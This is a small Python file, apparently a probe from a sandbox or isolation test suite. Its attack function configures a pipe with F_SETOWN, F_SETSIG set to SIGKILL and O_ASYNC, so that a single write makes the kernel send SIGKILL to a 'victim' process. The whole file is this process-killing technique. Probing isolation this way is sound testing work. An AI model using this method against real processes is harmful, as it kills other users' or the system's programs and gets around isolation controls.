"""Make the kernel signal somebody else when a pipe becomes readable (`F_SETOWN`, `F_SETSIG`, `O_ASYNC`)."""

import fcntl
import os
import signal
import time


def attack(target):
    reader, writer = os.pipe()
    loot = []
    try:
        fcntl.fcntl(reader, fcntl.F_SETOWN, target["victim"])
        fcntl.fcntl(reader, 10, signal.SIGKILL)  # F_SETSIG
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writer, b"x")
        loot.append("asked for it")
    except OSError:
        pass
    time.sleep(0.05)
    return loot
